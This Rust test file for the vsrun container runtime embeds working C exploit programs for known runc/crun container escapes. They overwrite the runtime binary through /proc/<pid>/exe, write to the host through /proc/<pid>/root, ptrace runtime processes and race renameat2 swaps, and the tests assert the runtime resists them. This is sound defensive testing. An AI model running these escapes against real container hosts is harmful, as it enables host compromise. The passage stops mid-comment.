//! Escapes: one test per class of runtime escape that hit runc or crun (design.md,
//! "Security"). Each test mounts the real attack against the built vsrun, as root, on the real
//! kernel, and checks from the host that nothing of the host was reached. Where practical the
//! same attack is first shown to work against a deliberately unprotected path (a plain
//! `mount --bind` from the host in a private mount namespace, a dumpable process joining the
//! container), so that each test is able to fail.
//!
//! The attackers that need more than the probe are small static C programs (ATTACKER,
//! SWAPPER below), compiled once per run with `cc -static` and copied into the rootfs.
//!
//! Tests that race (the runtime against a spinning attacker) take RACE_LOCK so they do not
//! compete with each other for the CPU.

use serde_json::{json, Value};
use spec_tests::*;
use std::collections::BTreeSet;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd, RawFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

static RACE_LOCK: Mutex<()> = Mutex::new(());

fn race_lock() -> std::sync::MutexGuard<'static, ()> {
    RACE_LOCK.lock().unwrap_or_else(|e| e.into_inner())
}

// ---------------------------------------------------------------------------------------------
// Attack programs

/// Spins over /proc looking for the runtime while it joins the container. For every pid it
/// tries what CVE-2019-5736 and CVE-2016-9962 did: open /proc/<pid>/exe (and, once the runtime
/// has exited, reopen it for writing through /proc/self/fd), open /proc/<pid>/root (and cwd)
/// and create a file on the host through it, and PTRACE_SEIZE the runtime. Prints its counters
/// as JSON.
/// argv: MS TARGET_DEV TARGET_INO CANARY (the host file it tries to create).
const ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static dev_t tdev;
static ino_t tino;

/* 1: /proc/PID/exe is the target binary, 0: something else, -1: access denied, -2: gone */
static int exe_is_target(pid_t pid, int *keep) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return (errno == EACCES || errno == EPERM) ? -1 : -2;
    struct stat st;
    int is = fstat(fd, &st) == 0 && st.st_dev == tdev && st.st_ino == tino;
    if (is && keep) *keep = fd; else close(fd);
    return is;
}

/* CapPrm of a process from /proc/PID/status; ~0 when unreadable (it exited). */
static unsigned long long cap_prm(pid_t pid) {
    char p[64], line[256];
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    FILE *f = fopen(p, "re");
    if (!f) return ~0ULL;
    unsigned long long v = ~0ULL;
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "CapPrm:", 7)) { v = strtoull(line + 7, 0, 16); break; }
    fclose(f);
    return v;
}

int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: attacker MS DEV INO CANARY\n"); return 2; }
    long dur = atol(argv[1]);
    tdev = (dev_t)strtoull(argv[2], 0, 10);
    tino = (ino_t)strtoull(argv[3], 0, 10);
    const char *canary = argv[4];
    while (*canary == '/') canary++;
    struct stat myroot;
    stat("/", &myroot);
    unsigned long long mycaps = cap_prm(getpid());
    pid_t me = getpid();
    long scans = 0, seen = 0, runtime_seen = 0, exe_target = 0, exe_denied = 0, exe_write_opened = 0,
         root_foreign = 0, root_denied = 0, escaped = 0, ptrace_ok = 0, ptrace_after_exec = 0,
         ptrace_denied = 0, write_ok = 0, ptrace_privileged = 0;
    int held[64];
    int nheld = 0;
    long end = now_ms() + dur;
    while (now_ms() < end) {
        while (waitpid(-1, 0, WNOHANG | __WALL) > 0) {}
        scans++;
        DIR *d = opendir("/proc");
        if (!d) { usleep(1000); continue; }
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == me) continue;
            seen++;
            /* comm needs no ptrace access: it tells that the runtime was seen at all. */
            char comm[32] = {0};
            snprintf(comm, sizeof comm, "/proc/%d/comm", pid);
            int cf = open(comm, O_RDONLY | O_CLOEXEC);
            if (cf >= 0) {
                ssize_t n = read(cf, comm, sizeof comm - 1);
                close(cf);
                comm[n > 0 ? n : 0] = 0;
                if (!strncmp(comm, "vsrun", 5) || !strncmp(comm, "runc", 4) ||
                    !strncmp(comm, "crun", 4))
                    runtime_seen++;
            }
            int keep = -1;
            int t = exe_is_target(pid, &keep);
            if (t == 1) {
                exe_target++;
                if (nheld < 64) held[nheld++] = keep; else close(keep);
            } else if (t == -1) {
                exe_denied++;
            }
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                struct stat st;
                if (fstat(w, &st) == 0 && st.st_dev == tdev && st.st_ino == tino) {
                    exe_write_opened++;
                    if (pwrite(w, "PWNED", 5, 0) == 5) write_ok++;
                }
                close(w);
            }
            snprintf(p, sizeof p, "/proc/%d/root", pid);
            int r = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (r >= 0) {
                struct stat st;
                if (fstat(r, &st) == 0 &&
                    (st.st_dev != myroot.st_dev || st.st_ino != myroot.st_ino)) {
                    root_foreign++;
                    int c = openat(r, canary, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                    if (c >= 0) {
                        if (write(c, "escaped\n", 8) == 8) escaped++;
                        close(c);
                    }
                }
                close(r);
            } else if (errno == EACCES || errno == EPERM) {
                root_denied++;
            }
            /* A cwd left on the host's / reaches it as well. */
            snprintf(p, sizeof p, "/proc/%d/cwd", pid);
            int cw = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (cw >= 0) {
                int c = openat(cw, canary, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                if (c >= 0) {
                    if (write(c, "escaped\n", 8) == 8) escaped++;
                    close(c);
                }
                close(cw);
            }
            if (t == 1 || t == -1) {
                if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                    /* Attached: was it still the runtime, or already the exec'd program? */
                    int now = exe_is_target(pid, 0);
                    if (now == 0) ptrace_after_exec++;
                    else if (now != -2) {  /* -2: it exited meanwhile */
                        ptrace_ok++;
                        /* A runtime holding more than the container is a way out. */
                        unsigned long long c = cap_prm(pid);
                        if (c != ~0ULL && (c & ~mycaps)) ptrace_privileged++;
                    }
                    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                    for (int i = 0; i < 100; i++) {
                        if (waitpid(pid, 0, WNOHANG | __WALL) != 0) break;
                        usleep(1000);
                    }
                    ptrace(PTRACE_DETACH, pid, 0, 0);
                } else if (errno == EPERM) {
                    ptrace_denied++;
                }
            }
        }
        closedir(d);
        /* CVE-2019-5736: once nothing executes the binary any more, write it. */
        for (int i = 0; i < nheld; i++) {
            char q[64];
            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
            int w = open(q, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "PWNED", 5, 0) == 5) write_ok++;
                close(w);
            }
        }
    }
    printf("{\"scans\":%ld,\"seen\":%ld,\"runtime_seen\":%ld,\"exe_target\":%ld,\"exe_denied\":%ld,"
           "\"exe_write_opened\":%ld,\"root_foreign\":%ld,\"root_denied\":%ld,\"escaped\":%ld,"
           "\"ptrace_ok\":%ld,\"ptrace_after_exec\":%ld,\"ptrace_denied\":%ld,\"write_ok\":%ld,"
           "\"ptrace_privileged\":%ld}\n",
           scans, seen, runtime_seen, exe_target, exe_denied, exe_write_opened, root_foreign, root_denied,
           escaped, ptrace_ok, ptrace_after_exec, ptrace_denied, write_ok, ptrace_privileged);
    fflush(stdout);
    return 0;
}
"#;

/// Flips two names with renameat2(RENAME_EXCHANGE) in a loop (CVE-2021-30465's racer).
/// argv: A B MS.
const SWAPPER: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: swapper A B MS\n"); return 2; }
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    long end = ts.tv_sec * 1000 + ts.tv_nsec / 1000000 + atol(argv[3]);
    long swaps = 0, errors = 0;
    for (;;) {
        for (int i = 0; i < 64; i++) {
            if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) swaps++;
            else errors++;
        }
        clock_gettime(CLOCK_MONOTONIC, &ts);
        if (ts.tv_sec * 1000 + ts.tv_nsec / 1000000 > end) break;
    }
    printf("{\"swaps\":%ld,\"errors\":%ld}\n", swaps, errors);
    fflush(stdout);
    return 0;
}
"#;

/// Compile a static helper once per source text (lib.rs `static_program`).
fn helper(name: &str, source: &str) -> PathBuf {
    static_program(name, source, &[])
}

/// Copy a helper into the rootfs as /NAME, executable.
fn install(b: &Bundle, name: &str, source: &str) {
    install_program(b, name, &helper(name, source));
}

// ---------------------------------------------------------------------------------------------
// Small host-side helpers

fn tempdir(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(prefix)
        .tempdir()
        .expect("temp dir")
}

/// `sh -euc SCRIPT` in a private mount namespace (and a new network namespace with `net`):
/// the deliberately unprotected path, a plain path-based mount done from the host. Whatever it
/// mounts dies with the namespace.
fn unprotected(script: &str, net: bool) -> Output {
    let mut c = Command::new("unshare");
    c.args(["--mount", "--propagation", "private"]);
    if net {
        c.arg("--net");
    }
    c.args(["sh", "-euc", script]);
    c.stdin(Stdio::null());
    c.output().expect("run unshare")
}

fn sh_quote(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

fn entries(dir: &Path) -> BTreeSet<String> {
    fs::read_dir(dir)
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Host mount points at or under `p`.
fn host_mounts_at(p: &Path) -> Vec<String> {
    mounts_under(p)
}

/// The mount table of a container process, as it sees it (paths relative to its root).
fn mounts_of(pid: i32) -> Vec<HostMount> {
    parse_mountinfo(
        &fs::read_to_string(format!("/proc/{pid}/mountinfo"))
            .unwrap_or_else(|e| panic!("read /proc/{pid}/mountinfo: {e}")),
    )
}

fn init_pid(rt: &Runtime, id: &str) -> i32 {
    rt.state(id)["pid"]
        .as_i64()
        .unwrap_or_else(|| panic!("state {id} has no pid")) as i32
}

/// Make `dir_fd` appear, inheritable, as every fd in `fds` of the spawned vsrun: an engine that
/// leaks a host directory to the runtime (CVE-2024-21626's leaked fd came from the runtime
/// itself; any host directory fd reaching the container is the same hole).
fn leak_dir_fds(c: &mut Command, dir_fd: RawFd, fds: std::ops::RangeInclusive<RawFd>) {
    // SAFETY: dup2/fcntl only (async-signal-safe), in the forked child before exec.
    unsafe {
        c.pre_exec(move || {
            for fd in fds.clone() {
                if fd == dir_fd {
                    let fl = libc::fcntl(fd, libc::F_GETFD);
                    libc::fcntl(fd, libc::F_SETFD, fl & !libc::FD_CLOEXEC);
                } else if libc::dup2(dir_fd, fd) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

fn open_dir(p: &Path) -> fs::File {
    fs::File::open(p).unwrap_or_else(|e| panic!("open {}: {e}", p.display()))
}

/// Exit 1 with one `vsrun: ` stderr line that contains `needle`.
#[track_caller]
fn assert_refused(o: &Output, needle: &str, what: &str) {
    assert_refused_status(o, 1, &[needle], what);
}

// ---------------------------------------------------------------------------------------------
// A vsrun that may be attacked: a copy of the binary under test

/// Run a COPY of vsrun (never the real one: the attack may overwrite it) with the runtime's
/// --root. stdout goes to `out` when given (a detached container keeps writing there). A
/// binary the attack corrupted cannot even be spawned: that is reported as a failed Output.
fn run_copy(bin: &Path, rt: &Runtime, args: &[&str], out: Option<&Path>) -> Output {
    let io = tempdir("vsrun-copy-io-");
    let out_path = out
        .map(Path::to_path_buf)
        .unwrap_or_else(|| io.path().join("out"));
    let err_path = io.path().join("err");
    let mut c = Command::new(bin);
    c.arg("--root").arg(rt.root()).args(args);
    c.stdin(Stdio::null())
        .stdout(fs::File::create(&out_path).expect("stdout file"))
        .stderr(fs::File::create(&err_path).expect("stderr file"));
    // ETXTBSY: another test thread forked while the copy was still open for writing (the fd
    // lives in that child until its exec). It passes within milliseconds; retry briefly.
    let mut spawned = c.spawn();
    for _ in 0..50 {
        match &spawned {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {
                std::thread::sleep(Duration::from_millis(10));
                spawned = c.spawn();
            }
            _ => break,
        }
    }
    let mut child = match spawned {
        Ok(ch) => ch,
        Err(e) => {
            return Output {
                status: std::os::unix::process::ExitStatusExt::from_raw(127 << 8),
                stdout: Vec::new(),
                stderr: format!("spawn {}: {e}", bin.display()).into_bytes(),
            }
        }
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(st) = child.try_wait().expect("wait vsrun copy") {
            break st;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("vsrun copy {args:?}: no exit within 60 s");
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    Output {
        status,
        stdout: if out.is_some() {
            Vec::new()
        } else {
            fs::read(&out_path).unwrap_or_default()
        },
        stderr: fs::read(&err_path).unwrap_or_default(),
    }
}

/// Wait for the first JSON line in `path` (a container's stdout).
fn wait_json_line(path: &Path, within: Duration, what: &str) -> Value {
    let deadline = Instant::now() + within;
    loop {
        let text = fs::read_to_string(path).unwrap_or_default();
        if let Some(line) = text.lines().find(|l| l.starts_with('{')) {
            if text.contains('\n') {
                return serde_json::from_str(line)
                    .unwrap_or_else(|e| panic!("{what}: not JSON ({e}): {line:?}"));
            }
        }
        assert!(
            Instant::now() < deadline,
            "{what}: no JSON line in {} within {within:?}: {text:?}",
            path.display()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn count(v: &Value, key: &str) -> i64 {
    v[key].as_i64().unwrap_or_else(|| panic!("no {key} in {v}"))
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736 / CVE-2016-9962: the runtime's binary and its view of the host

#[derive(Clone, Copy, Debug, PartialEq)]
enum Joiner {
    /// `vsrun exec` into the running attacker's container, in a loop.
    Exec,
    /// `vsrun create` of a second container that joins the attacker's pid namespace by path
    /// (a pod), then `delete --force`, in a loop.
    CreateInSharedPidNs,
}

struct RaceResult {
    attacker: Value,
    binary_changed: bool,
    canary_written: bool,
    joins: usize,
    join_failures: Vec<String>,
}

impl RaceResult {
    fn summary(&self) -> String {
        format!(
            "attacker: {}\nhost binary changed: {}\nhost canary written: {}\njoins: {}, failed: {} {:?}",
            self.attacker,
            self.binary_changed,
            self.canary_written,
            self.joins,
            self.join_failures.len(),
            self.join_failures.iter().take(3).collect::<Vec<_>>()
        )
    }
}

/// The attacker runs as the init of a container (with CAP_SYS_PTRACE when `ptrace_cap`) while
/// a copy of vsrun joins that container again and again.
fn runtime_race(ptrace_cap: bool, joiner: Joiner) -> RaceResult {
    let _race = race_lock();
    let tmp = tempdir("vsrun-esc-race-");
    let bin = tmp.path().join("vsrun");
    fs::copy(vsrun_bin(), &bin).expect("copy vsrun");
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).expect("chmod vsrun copy");
    let original = fs::read(&bin).expect("read vsrun copy");
    let md = fs::metadata(&bin).expect("stat vsrun copy");
    let canary_dir = tmp.path().join("host-canary");
    fs::create_dir(&canary_dir).expect("canary dir");
    let canary = canary_dir.join("escaped");

    let rt = Runtime::new();
    let mut a = Bundle::new();
    install(&a, "attacker", ATTACKER);
    let ms: u64 = 8000;
    a.set_args(&[
        "/attacker",
        &ms.to_string(),
        &md.dev().to_string(),
        &md.ino().to_string(),
        canary.to_str().expect("utf-8 path"),
    ]);
    if ptrace_cap {
        add_caps(&mut a, &["CAP_SYS_PTRACE"]);
    }
    a.write();
    let id = unique_id("victim");
    rt.remember_bundle(&id, a.path());
    let out = tmp.path().join("attacker.out");
    let o = run_copy(
        &bin,
        &rt,
        &["run", "-d", "--bundle", a.path_str(), &id],
        Some(&out),
    );
    assert_success(&o, "run -d of the attacker");
    let init = init_pid(&rt, &id);

    let started = Instant::now();
    let budget = Duration::from_millis(ms - 3000);
    let mut joins = 0;
    let mut join_failures = Vec::new();
    let joiner_bundle = (joiner == Joiner::CreateInSharedPidNs).then(|| {
        let mut b = Bundle::new();
        b.set_namespace("pid", Some(&format!("/proc/{init}/ns/pid")));
        b.set_args(&["/bin/true"]);
        b.write();
        b
    });
    while started.elapsed() < budget && joins < 60 {
        joins += 1;
        let o = match &joiner_bundle {
            None => run_copy(&bin, &rt, &["exec", &id, "/bin/true"], None),
            Some(b) => {
                let jid = unique_id("joiner");
                rt.remember_bundle(&jid, b.path());
                let o = run_copy(&bin, &rt, &["create", "--bundle", b.path_str(), &jid], None);
                std::thread::sleep(Duration::from_millis(30));
                let _ = rt.delete_force(&jid);
                o
            }
        };
        if !o.status.success() {
            join_failures.push(format!("{}: {}", o.status, stderr_str(&o).trim()));
        }
    }
    let attacker = wait_json_line(&out, Duration::from_millis(ms + 20_000), "attacker");
    let _ = rt.delete_force(&id);
    RaceResult {
        attacker,
        binary_changed: fs::read(&bin).expect("read vsrun copy") != original,
        canary_written: canary.exists(),
        joins,
        join_failures,
    }
}

/// CVE-2019-5736: the host binary was never written, nor even opened for writing.
#[track_caller]
fn assert_binary_intact(r: &RaceResult, what: &str) {
    let (s, a) = (r.summary(), &r.attacker);
    assert!(
        !r.binary_changed && count(a, "write_ok") == 0 && count(a, "exe_write_opened") == 0,
        "{what}: the container wrote the runtime's binary on the host (CVE-2019-5736)\n{s}"
    );
}

/// CVE-2016-9962 class: nothing was created on the host through /proc/<runtime>/root.
/// root_foreign alone is no escape: after pivot_root a joining container's root is its own;
/// the canary's directory exists only on the host.
#[track_caller]
fn assert_host_unreached(r: &RaceResult, what: &str) {
    let (s, a) = (r.summary(), &r.attacker);
    assert!(
        !r.canary_written && count(a, "escaped") == 0,
        "{what}: the container reached the host's filesystem through /proc/<runtime>/root \
         (CVE-2016-9962 class)\n{s}"
    );
}

/// Without CAP_SYS_PTRACE the container must not even open the runtime's exe or ptrace it.
#[track_caller]
fn assert_runtime_untouchable(r: &RaceResult, what: &str) {
    let (s, a) = (r.summary(), &r.attacker);
    assert_eq!(
        count(a, "exe_target"),
        0,
        "{what}: the container opened the runtime's binary through /proc/<pid>/exe\n{s}"
    );
    assert_eq!(
        count(a, "ptrace_ok"),
        0,
        "{what}: the container ptraced the runtime\n{s}"
    );
}

/// The race was really run: the attacker saw the runtime, and every join succeeded.
#[track_caller]
fn assert_race_ran(r: &RaceResult, what: &str) {
    let s = r.summary();
    eprintln!("{what}:\n{s}");
    assert!(
        count(&r.attacker, "runtime_seen") > 0,
        "{what}: the attacker never saw the runtime inside the container (race not exercised)\n{s}"
    );
    assert!(
        r.join_failures.is_empty(),
        "{what}: joining the container failed\n{s}"
    );
}

#[track_caller]
fn assert_runtime_out_of_reach(r: &RaceResult, what: &str) {
    assert_race_ran(r, what);
    assert_binary_intact(r, what);
    assert_host_unreached(r, what);
    assert_runtime_untouchable(r, what);
}

/// The unprotected path: a DUMPABLE process without capabilities joins the attacker's pid
/// namespace from the host (what a runtime that never made itself non-dumpable would be) —
/// the same attacker opens its exe, rewrites the binary once it exits, and creates the canary
/// on the host through /proc/<pid>/root.
#[test]
fn the_exe_attack_works_against_a_dumpable_joiner() {
    let _race = race_lock();
    let tmp = tempdir("vsrun-esc-demo-");
    let decoy = tmp.path().join("decoy-sleep");
    fs::copy("/bin/sleep", &decoy).expect("copy /bin/sleep");
    fs::set_permissions(&decoy, fs::Permissions::from_mode(0o755)).expect("chmod decoy");
    let original = fs::read(&decoy).expect("read decoy");
    let md = fs::metadata(&decoy).expect("stat decoy");
    let canary_dir = tmp.path().join("host-canary");
    fs::create_dir(&canary_dir).expect("canary dir");
    let canary = canary_dir.join("escaped");

    let rt = Runtime::new();
    let mut a = Bundle::new();
    install(&a, "attacker", ATTACKER);
    a.set_args(&[
        "/attacker",
        "5000",
        &md.dev().to_string(),
        &md.ino().to_string(),
        canary.to_str().expect("utf-8 path"),
    ]);
    let id = unique_id("demo-victim");
    assert_success(&rt.run_detached(&a, &id), "run -d of the attacker");
    let init = init_pid(&rt, &id);
    for _ in 0..6 {
        std::thread::sleep(Duration::from_millis(100));
        let st = Command::new("nsenter")
            .args(["-t", &init.to_string(), "-p", "--"])
            .args(["setpriv", "--bounding-set", "-all", "--inh-caps", "-all"])
            .arg(&decoy)
            .arg("0.3")
            .stdin(Stdio::null())
            .output()
            .expect("nsenter");
        // Once the attacker has rewritten the decoy it no longer runs (ETXTBSY, ENOEXEC).
        eprintln!("decoy run: {}", stderr_str(&st).trim());
    }
    let (out, _) = {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let o = rt.container_output(&id);
            if o.0.contains('\n') || Instant::now() > deadline {
                break o;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let attacker: Value = serde_json::from_str(out.lines().next().unwrap_or("{}")).expect("JSON");
    let _ = rt.delete_force(&id);
    let changed = fs::read(&decoy).expect("read decoy") != original;
    eprintln!(
        "demo attacker: {attacker}; decoy changed: {changed}; canary: {}",
        canary.exists()
    );
    assert!(
        count(&attacker, "exe_target") > 0 && changed,
        "the attacker could not rewrite a dumpable joiner's binary: the exec tests prove nothing\n{attacker}"
    );
    assert!(
        canary.exists() && count(&attacker, "escaped") > 0,
        "the attacker could not reach the host through a joiner's /proc/<pid>/root\n{attacker}"
    );
}

#[test]
fn runtime_exe_and_root_are_out_of_reach_during_exec() {
    let r = runtime_race(false, Joiner::Exec);
    assert_runtime_out_of_reach(&r, "exec into a container with the default capabilities");
}

#[test]
fn runtime_exe_and_root_are_out_of_reach_during_create_in_a_shared_pid_namespace() {
    let r = runtime_race(false, Joiner::CreateInSharedPidNs);
    assert_runtime_out_of_reach(
        &r,
        "create of a container joining the attacker's pid namespace (default capabilities)",
    );
}

/// Non-dumpable does not stop a process holding CAP_SYS_PTRACE in the runtime's user namespace
/// (docker --cap-add SYS_PTRACE, a debugging sidecar): it opens /proc/<pid>/exe of a joining
/// vsrun. The sealed binary (security/sealed_exe.rs) must still never be writable.
#[test]
fn runtime_binary_stays_intact_during_exec_even_with_cap_sys_ptrace() {
    let r = runtime_race(true, Joiner::Exec);
    let what = "exec into a container holding CAP_SYS_PTRACE";
    assert_race_ran(&r, what);
    assert!(
        count(&r.attacker, "exe_target") > 0,
        "{what}: the attacker never opened vsrun's exe\n{}",
        r.summary()
    );
    assert_binary_intact(&r, what);
}

#[test]
fn runtime_binary_stays_intact_during_create_in_a_shared_pid_namespace_even_with_cap_sys_ptrace() {
    let r = runtime_race(true, Joiner::CreateInSharedPidNs);
    let what = "create joining the pid namespace of a container holding CAP_SYS_PTRACE";
    assert_race_ran(&r, what);
    assert!(
        count(&r.attacker, "exe_target") > 0,
        "{what}: the attacker never opened vsrun's exe\n{}",
        r.summary()
    );
    assert_binary_intact(&r, what);
}

/// Granted CAP_SYS_PTRACE (docker --cap-add SYS_PTRACE, a debugging sidecar), a container
/// can ptrace any process in its pid namespace, and CAP_SYS_PTRACE overrides non-dumpable. So
/// vsrun never lets a privileged process into a pid namespace it joins: the init does the
/// privileged steps outside it and only a child holding the final credentials, already rooted
/// in the container, enters (context/init.rs, `hand_over`); a create's /proc comes from an
/// opener that enters holding no capability in any set, rooted in an empty read-only tmpfs
/// (context/pidns_proc.rs), on every kernel. The attacker may ptrace both, as it may any
/// process of its own; it must never find one holding a capability it lacks (CapPrm, in any
/// user namespace), nor a root or cwd on the host. runc 1.1.5 is reached here (its nsexec child
/// joins before it drops), and so was vsrun on kernels before 6.15 until issue 12: on Debian
/// 12's 6.1 (hack/v2-vm.sh) the attacker ptraced 45 privileged runtime processes and wrote the
/// canary on the host 32 times in 5 creates.
#[track_caller]
fn assert_only_final_credentials_were_visible(r: &RaceResult, what: &str) {
    assert_race_ran(r, what);
    assert_host_unreached(r, what);
    assert_eq!(
        count(&r.attacker, "ptrace_privileged"),
        0,
        "{what}: ptraced a runtime process holding capabilities the container lacks\n{}",
        r.summary()
    );
}

#[test]
fn host_is_out_of_reach_during_exec_even_with_cap_sys_ptrace() {
    let r = runtime_race(true, Joiner::Exec);
    let what = "exec into a container holding CAP_SYS_PTRACE";
    assert_only_final_credentials_were_visible(&r, what);
    assert_eq!(
        count(&r.attacker, "root_foreign"),
        0,
        "{what}: a joining process was visible before it was rooted in the container\n{}",
        r.summary()
    );
}

/// A container whose pid namespace another create joins stops every process that appears
/// in it (`kill -STOP -1` in a loop: all but itself; SIGSTOP needs only CAP_KILL, in runc's
/// default set): the create's proc opener is
/// such a process, and a stopped child never reports to waitpid. The create must fail within
/// the opener's deadline, kill the opener and leave nothing; before the deadline it hung.
#[test]
fn a_container_that_stops_the_proc_opener_cannot_hang_a_create_joining_its_pid_namespace() {
    let rt = Runtime::new();
    let mut a = Bundle::new();
    a.set_args(&["sh", "-c", "while :; do kill -STOP -1 2>/dev/null; done"]);
    let a_id = unique_id("stopper");
    assert_success(&rt.run_detached(&a, &a_id), "run -d the stopping container");
    let a_pid = rt.state(&a_id)["pid"].as_i64().unwrap();
    let mut b = Bundle::new();
    b.set_args(&["sleep", "30"]);
    b.set_namespace("pid", Some(&format!("/proc/{a_pid}/ns/pid")));
    // The attacker has to see the opener before it is done: on one CPU (the emulated VM) the
    // opener can finish inside its time slice. Every attempt must end (no hang) and either
    // succeed or fail cleanly; with two CPUs or more the stop has to land at least once.
    let mut landed = false;
    for _ in 0..10 {
        let b_id = unique_id("joiner");
        let o = rt.create_within(&b, &b_id, Duration::from_secs(60));
        if o.status.success() {
            finish(&rt, &b_id);
            continue;
        }
        assert_refused_naming(
            &o,
            &["opener"],
            "create joining a pid namespace that stops newcomers",
        );
        assert_nothing_left(&rt, &b_id);
        landed = true;
        break;
    }
    let cpus = std::thread::available_parallelism().map_or(1, |n| n.get());
    assert!(
        landed || cpus < 2,
        "the stopping container never caught the opener on {cpus} CPUs"
    );
    // The opener was killed, not left stopped in the container's namespace.
    let a_ns = fs::read_link(format!("/proc/{a_pid}/ns/pid")).unwrap();
    let strays: Vec<String> = fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy() != a_pid.to_string())
        .filter(|e| fs::read_link(e.path().join("ns/pid")).is_ok_and(|ns| ns == a_ns))
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        strays.is_empty(),
        "processes left in the container's pid namespace: {strays:?}"
    );
    finish(&rt, &a_id);
}

#[test]
fn host_is_out_of_reach_during_create_in_a_shared_pid_namespace_even_with_cap_sys_ptrace() {
    let r = runtime_race(true, Joiner::CreateInSharedPidNs);
    assert_only_final_credentials_were_visible(
        &r,
        "create joining the pid namespace of a container holding CAP_SYS_PTRACE",
    );
}

/// As root the seal moves vsrun onto the read-only view in place (syscall/image.rs) instead
/// of starting it a second time: the created container's init, still vsrun, has its exe link
/// on a read-only mount and no writable mapping of the binary (its data segment is anonymous
/// now). A re-executed vsrun would map the data segment from the file; an unsealed one would
/// have its exe link on the writable host file. The attacks above check that the result
/// cannot be written; this checks that it is the in-place move that got there.
#[test]
fn root_seals_vsrun_in_place_without_a_second_start() {
    if reference_mode() {
        return;
    }
    let rt = Runtime::new();
    let mut b = Bundle::new();
    b.set_args(&["sleep", "30"]);
    let id = unique_id("seal-move");
    assert_success(&rt.create(&b, &id), "create");
    let (ro, perms) = vsrun_image_of(init_pid(&rt, &id));
    finish(&rt, &id);
    assert!(ro, "the init's exe link is on a writable mount: {perms:?}");
    assert!(
        perms.iter().any(|p| p.contains('x')),
        "the init maps no text of vsrun's binary: {perms:?}"
    );
    assert!(
        perms.iter().all(|p| !p.contains('w')),
        "the init maps the binary's data segment from the file (re-executed?): {perms:?}"
    );
}

/// Started as `ld.so vsrun create ...`, vsrun's exe link is the dynamic loader, not vsrun:
/// the exe file's written data is ld.so's (link maps, TLS), which the writable segments of
/// the main program do not cover. The in-place move must not map those pages again from the
/// file (it did, and vsrun died of SIGSEGV at exit with the container left running); vsrun
/// must end either with a sealed init or with a one-line error and nothing left, never by a
/// signal (a re-exec from ld.so's view would run ld.so with vsrun's arguments).
#[test]
fn seal_of_a_vsrun_started_through_ld_so_never_corrupts_it() {
    if reference_mode() {
        return;
    }
    let Some(interp) = elf_interpreter(&vsrun_bin()) else {
        eprintln!(
            "skipped: {} is static, it has no ld.so",
            vsrun_bin().display()
        );
        return;
    };
    let rt = Runtime::new();
    let (_bundle, id, out) = create_launched_by(Command::new(&interp), &rt, "seal-ldso");
    if out.status.code().is_none() {
        rt.delete_force(&id);
        panic!(
            "vsrun through {interp}: killed by a signal: {}",
            output_text(&out)
        );
    }
    if !out.status.success() {
        assert_nothing_left(&rt, &id);
        let err = stderr_str(&out);
        assert!(
            err.contains("CVE-2019-5736") && err.contains("ld.so") && err.lines().count() == 1,
            "vsrun through {interp} failed without saying why in one line: {err}"
        );
        return;
    }
    rt.watch.after_create(&id, &rt.state_dir(&id));
    let (ro, perms) = vsrun_image_of(init_pid(&rt, &id));
    finish(&rt, &id);
    assert!(ro, "the init's exe link is on a writable mount: {perms:?}");
}

/// Each step of the in-place move can fail (a kernel without CONFIG_CHECKPOINT_RESTORE
/// answers EINVAL to PR_SET_MM_MAP; the exe change itself can be refused; the mremap of the
/// data copy can run out of memory, after the text was already moved). strace makes each fail
/// in turn, in vsrun's own thread only: vsrun must still end sealed, by the re-exec from the
